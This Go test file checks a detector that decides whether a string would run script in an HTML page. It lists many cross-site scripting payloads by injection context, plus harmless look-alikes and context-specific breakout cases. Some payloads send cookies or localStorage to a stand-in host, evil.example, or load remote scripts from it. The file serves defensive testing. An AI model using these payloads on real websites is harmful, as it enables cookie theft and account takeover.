package active_test

import (
	"strings"
	"testing"

	"github.com/fumehood/fumehood/internal/active"
)

// attacks are payloads by the place that they are made for. The test in the browser shows
// that those which are not marked as old run there.
var attacks = map[string][]string{
	"text": {
		`<script>run()</script>`, `<SCRIPT SRC=//evil.example></SCRIPT>`, `<script src=//evil.example/x.js `, "<script\n>run()</script\t>",
		`<img src=x onerror=run()>`, `<img src=x onerror=run()`, `<img/src="x"/onerror=run()>`, "<img\nsrc=x\nonerror\n=\n'run()'>",
		`<svg/onload=run()>`, `<svg><g/onload=run()>`, `<svg onload="run()"`, `<body onload=run()>`, `<details open ontoggle=run()>x`,
		`<input autofocus onfocus=run()>`, `<a href="javascript:run()">x</a>`, `<a href='java&#115;cript:run()'>x</a>`,
		"<a href=\"java\tscript:run()\">x</a>", "<a href=\" \x01javascript:run()\">x</a>", `<a href="javascript&colon;run()">x</a>`,
		`<iframe src="javascript:parent.run()">`, `<iframe srcdoc="<script>parent.run()</script>">`, `<iframe srcdoc="&lt;img src=x onerror=parent.run()&gt;">`,
		`<form action=javascript:run()><button>x`, `<button formaction=javascript:run()>`, `<object data="data:text/html,<script>x</script>">`,
		`<embed src="data:text/html,x">`, `<base href="//evil.example/">`, `<meta http-equiv=refresh content="0;url=javascript:run()">`,
		`<svg><a xlink:href="javascript:run()"><text y=9>x</text></a></svg>`,
		`<svg><a><animate attributeName=href values=javascript:run() /><text y=9>x</text></a></svg>`,
		`<svg><a><set attributeName=href to=javascript:run() /><text>x</text></a>`, `<svg><script>run()</script></svg>`,
		`<math><a href="javascript:run()">x</a></math>`, `<svg><foreignObject><img src=x onerror=run()></foreignObject></svg>`,
		`<noscript><p title="</noscript><img src=x onerror=run()>">`, `<template><img src=x onerror=run()></template>`,
		`<a title="--><img src=x onerror=run()>">x</a>`, `<!--><img src=x onerror=run()>-->`, `<style><img src="</style><img src=x onerror=run()>">`,
		`<x onclick=run() contenteditable>`, `<x onnewevent=run()>`, `</p onclick=x><img src=x onerror=run()>`, `<p id=a id=b onmouseover=run()>`,
		`<style>p{x:expression(run())}</style>`, `<p style="x:expr/**/ession(run())">`, `<p style="background:url(javascript:run())">`,
		`<p style="-moz-binding:url(//evil.example/x)">`, `<style>@import url(//evil.example/x.css);</style>`, `<p style="x:\65xpression(run())">`,
		`<meta charset=utf-7>`, "<img src=`x`onerror=run()>", `<script+src=//evil.example>`, `<div <script>run()</script>`,
		`<html:script xmlns:html="http://www.w3.org/1999/xhtml">run()</html:script>`, `<img src=x onerror="`,
	},
	"attribute": {
		`" onfocus=run() autofocus x="`, `' onfocus=run() autofocus x='`, `" autofocus onfocus="run()`, `"onmouseover="run()`, `x onload=run()`, `x onfocus=run() autofocus`,
		`onfocus=run() autofocus`, `"><svg onload=run()>`, `'><img src=x onerror=run()>`, "x\nonfocus=run()\nautofocus", `" style="x:expression(run())`,
		`" href="javascript:run()`, `" onfocus="x=run`, `'/onfocus='run()'/autofocus='`,
	},
	"url": {
		`javascript:alert(1)`, ` JavaScript:alert(1)`, "java\nscript:alert(1)", "\x00javascript:alert(1)", `javascript:%61lert(1)`, `javascript://%0aalert(1)`, `javascript:/**/eval(name)`,
		`vbscript:msgbox(1)`, `data:text/html,<script>alert(1)</script>`, `data:text/html;base64,PHNjcmlwdD4=`, `javascript:"<img src=x onerror=alert(1)>"`, `javascript:x=1`,
	},
	"script": {
		`';alert(1)//`, `";alert(1);"`, `"-alert(1)-"`, `'-alert(1)-'`, `'+eval(name)+'`, `'};alert(1);{'`, `');alert(1);//`, "`-alert(1)-`", `${alert(1)}`,
		`</script><script>alert(1)</script>`, `";document.location='//evil.example/'+document.cookie//`, `\';alert(1)//`, `*/alert(1)/*`, `alert(1)`, "alert`1`",
		`(alert)(1)`, `1;alert(1)`, `[].constructor.constructor('x')()`, `window['al'+'ert'](1)`, `top["eval"](name)`, `"+{valueOf:alert}+"`, `';onerror=alert;throw 1//`,
		`'?alert(1):'`, `"||alert(1)||"`, `';new Function(name)();'`, `';setTimeout("x",1);//`, `[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]()`,
		"');\nalert(1);\n('", `'-import('//evil.example/x')-'`, `"]});fetch('//evil.example?'+localStorage.x);//`, `{{constructor.constructor('alert(1)')()}}`, "{{ $eval('a\nb') }}",
	},
}

func TestAttacksCouldRun(t *testing.T) {
	t.Parallel()
	for place, list := range attacks {
		for _, payload := range list {
			for _, form := range []string{payload, "some text " + payload + " and more", strings.ToUpper(payload)} {
				if form != payload && (place == "url" || place != "text" || strings.Contains(payload, "&")) {
					continue
				}
				if why, runs := active.HTML(form); !runs || why == "" {
					t.Errorf("%s: %q does nothing (%q)", place, form, why)
				}
				if !active.Could(form) {
					t.Errorf("%s: %q could do nothing", place, form)
				}
			}
		}
	}
}

// harmless is what people write.
var harmless = []string{
	"", "O'Brien", "it's (really) fine; don't worry", `He said "yes (maybe)" and left; she didn't.`, "a < b && c > d", "x = y (mod 7)", "5' (1.5 m) or 6' tall", `19" - length (approx)`,
	"Rock 'n' Roll", "1 < 2", "I <3 you", "<- see there", "email me <anna@example.org>", "<https://example.org/a?b=c>", "if (x) then y", "JavaScript: The Good Parts (O'Reilly)",
	"javascript:void(0)", "data: see table 1", "Data: text", "time: 12:30", "on=off", "one=1 two=2", `"quoted" once = "twice"`, "online=true", "Smith (John)", "document(s)", "cookie(s)", "alert (yes/no)",
	"Please confirm (yes/no)", "print(x)", "self.assertEqual(a, b)", "foo(bar)", "f(x) = x^2", "let x = 5;", "x => x + 1", "SELECT name FROM t WHERE id = 1;", "a=b&c=d", "{'a': [1, 2]}", `{"a": "b (c)", "d": 1}`,
	"- [link](http://example.org 'title') and `code(1)`", "`alert(1)` shows a box", "```\nfor x in y:\n    print(x['a'], 'b')\n```", "Use `onclick=\"...\"` sparingly.", "`${name}` is a variable", "cost: $5 ${currency}",
	"<p>Hello <b>world</b></p>", `<p style="text-align: left; color: rgb(1, 2, 3);">x</p>`, `<a href="https://example.org/?a=1&amp;b=(2)" target="_blank" rel="noopener">x</a>`,
	`<a href="javascript:void(0);">x</a>`, `<img src="data:image/png;base64,iVBORw0KGgo=" alt="a (b)">`, `<img src="data:image/svg+xml,<svg/>">`, `<table class="x" border=1><tr><td colspan=2>y</td></tr></table>`,
	`<ul><li>it's (one)</li></ul>`, `<h1 id="on">x</h1>`, `<p onclick="">x</p>`, `<style>p { color: red; scroll-behavior: smooth }</style>`, `<!-- a comment (x) -->`, `<iframe src="https://video.example/embed/1" allowfullscreen></iframe>`,
	`<font color="red">x</font>`, `<video src="/a.mp4" controls></video>`, `<svg width="9"><circle r="4"/></svg>`, `<math><mi>x</mi></math>`, "<meta charset=\"utf-8\">", "List<String> x = new ArrayList<>();",
	"{{ url_for('show', id=1) }} and {{ user.name|upper }}", "{{ x.constructor }}", "{% for a in b() %}{{ a }}{% endfor %}", `<img alt="javascript: an introduction (2nd ed.)" src=a.png>`,
	`Why "a"? Because 'b' = "c".`, `the "regular expression(s)": /a(b)/`, "x: expression (1)", "Zoë’s “book” (2nd ed.)", "«Où ? (là)»", "¿Qué? (sí)", "It's 5 o'clock = tea 'time'", "don't; can't; won't()",
}

func TestHarmlessPasses(t *testing.T) {
	t.Parallel()
	for _, text := range harmless {
		if why, runs := active.HTML(text); runs {
			t.Errorf("%q: %s", text, why)
		}
	}
}

func TestPageKnowsThePlace(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		page, value string
		runs        bool
	}{
		{`<p>`, `<img src=x onerror=run()>`, true},
		{`<p>`, `" onfocus=run() autofocus x="`, false},
		{`<p title="`, `" onfocus=run() autofocus x="`, true},
		{`<p title="`, `' onfocus=run() autofocus x='`, false},
		{`<p title='`, `' onfocus=run() autofocus x='`, true},
		{`<p title=`, `x onfocus=run() autofocus`, true},
		{`<p title="`, `x onfocus=run() autofocus`, false},
		{`<p `, `onfocus=run() autofocus`, true},
		{`<p title="`, `javascript:run()`, false},
		{`<a href="`, `javascript:run()`, true},
		{`<a href="  `, `javascript:run()`, true},
		{`<a href="/x?next=`, `javascript:run()`, false},
		{`<a href=`, `javascript:run()`, true},
		{`<img src="`, `data:image/svg+xml,<svg onload=run()>`, false},
		{`<iframe src="`, `data:text/html,<script>run()</script>`, true},
		{`<p onclick="f('`, `');run();('`, true},
		{`<p onclick="f('`, `&#39;);run();(&#39;`, true},
		{`<p onclick="f(&#34;`, `&#34;);run();(&#34;`, true},
		{`<p onclick="f(&#34;`, `');run();('`, false},
		{`<p onclick="`, `run()`, true},
		{`<script>var x = '`, `';run()//`, true},
		{`<script>var x = "`, `';run()//`, false},
		{`<script>var x = "it's`, `";run()//`, true},
		{`<script>// it's
var x = '`, `';run()//`, true},
		{`<script>var r = /'"/, x = '`, `';run()//`, true},
		{`<script>var x = a / b; y = '`, `';run()//`, true},
		{`<script>var x = `, `run()`, true},
		{`<script>var x = `, `foo`, false},
		{"<script>var x = `", `${run()}`, true},
		{"<script>var x = `${a + '", `'}${run()}`, true},
		{"<script>var x = `${a}", `';run()//`, false},
		{`<script>/* `, `*/run()/*`, true},
		{`<script>// `, "\nrun()", true},
		{`<script>// `, "run()", false},
		{`<script>var x = "`, `</script><img src=x onerror=run()>`, true},
		{`<script>var x = "`, `<img src=x onerror=run()>`, false},
		{`<script>"<!--<script></script>`, `</script><img src=x onerror=run()>`, true},
		{`<script></script><p>`, `<img src=x onerror=run()>`, true},
		{`<style>p{}`, `</style><img src=x onerror=run()>`, true},
		{`<style>p{}`, `p{x:expression(run())}`, true},
		{`<p style="`, `x:expression(run())`, true},
		{`<p style="`, `color:red`, false},
		{`<title>`, `</title><img src=x onerror=run()>`, true},
		{`<textarea>`, `</textarea><script>run()</script>`, true},
		{`<!-- `, `--><script>run()</script>`, true},
		{`<iframe srcdoc="`, `<script>run()</script>`, true},
		{`<iframe srcdoc="`, `&lt;script&gt;run()&lt;/script&gt;`, true},
		{`<p>`, `&lt;script&gt;run()&lt;/script&gt;`, false},
		{`<p>`, `it's (really) fine; "don't" worry`, false},
		{`<p title="it's (really) fine`, `; don't worry`, false},
		{`<`, `img src=x onerror=run()>`, true},
		{`<svg><style>`, `<img src=x onerror=run()>`, true},
		{`<x y="z"`, ` onfocus=run() autofocus`, true},
		{`<script>x={a:1};/a`, `/.test(1);run()//`, true},
	} {
		var p active.Page
		p.Read([]byte(tt.page))
		if why, runs := p.Runs(tt.value); runs != tt.runs {
			t.Errorf("%s[%s]: %v (%s)", tt.page, tt.value, runs, why)
		}
		var bytewise active.Page
		for i := range len(tt.page) {
			bytewise.Read([]byte(tt.page[i : i+1]))
		}
		if _, runs := bytewise.Runs(tt.value); runs != tt.runs {
			t.Errorf("%s[%s], byte by byte: %v", tt.page, tt.value, runs)
		}
	}
}
